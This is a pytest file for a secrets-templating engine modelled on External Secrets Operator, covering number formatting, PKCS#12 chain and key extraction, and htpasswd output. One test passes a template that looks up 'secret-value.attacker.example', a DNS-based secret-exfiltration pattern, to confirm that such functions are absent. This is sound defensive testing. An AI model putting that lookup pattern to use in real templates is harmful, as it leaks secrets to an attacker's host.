"""Cases that users of External Secrets Operator met, as far as the engine decides them."""

from __future__ import annotations

from itertools import pairwise
from pathlib import Path
from typing import Any

import bcrypt
import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from controllers.templating import ExecError, ParseError, render


@pytest.mark.parametrize(
    ("pipe", "text"), [("", b"1.2345678e+07"), (" | int64", b"12345678"), (" | toJson", b"12345678")]
)
def test_b029_large_json_numbers_print_in_exponents_unless_asked(pipe: str, text: bytes) -> None:
    """B029: as Go's engine does it; int64 and toJson are the ways out."""
    assert render("{{ (.j | fromJson).id" + pipe + " }}", {"j": b'{"id": 12345678}'}) == text


def test_b034_an_archive_with_a_chain_gives_leaf_and_issuers_in_order() -> None:
    """B034: the certificates from the leaf up, and the key of the leaf."""
    loader: Any = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
    vectors = yaml.load((Path(__file__).parent / "vectors" / "template-vectors.yaml").read_bytes(), Loader=loader)
    data = {"p12": vectors["fixtures"]["p12"].encode()}
    chain = x509.load_pem_x509_certificates(render('{{ .p12 | b64dec | pkcs12certPass "1234" }}', data))
    assert len(chain) >= 2
    for issued, issuer in pairwise(chain):
        assert issued.issuer == issuer.subject
    key = load_pem_private_key(render('{{ .p12 | b64dec | pkcs12keyPass "1234" }}', data), None)
    assert key.public_key() == chain[0].public_key()


@pytest.mark.parametrize("name", ["getHostByName", "env", "expandenv"])
def test_b035_templates_cannot_ask_the_network_or_the_environment(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """B035: such functions do not exist, so nothing is resolved."""

    def refuse(*args: object, **options: object) -> None:
        raise AssertionError("a name was looked up")

    monkeypatch.setattr("socket.getaddrinfo", refuse)
    with pytest.raises(ParseError, match=f'function "{name}" not defined'):
        render("{{ " + name + ' "secret-value.attacker.example" }}', {})


def test_b130_htpasswd_takes_three_arguments() -> None:
    """B130: the count, the two kinds, and the text that a bad name renders to."""
    with pytest.raises(ExecError, match="wrong number of args for htpasswd: want 3 got 2"):
        render('{{ htpasswd "user" "pw" }}', {})
    assert render('{{ htpasswd "user" "pw" "sha" }}', {}) == b"user:{SHA}GpHWL3ymc5liWkNopqtdSjuqYHM="
    salted = render('{{ htpasswd "user" "pw" "bcrypt" }}', {})
    assert salted.startswith(b"user:$2a$10$")
    assert bcrypt.checkpw(b"pw", salted.removeprefix(b"user:"))
    assert render('{{ htpasswd "a:b" "pw" "sha" }}', {}) == b"invalid username: a:b"
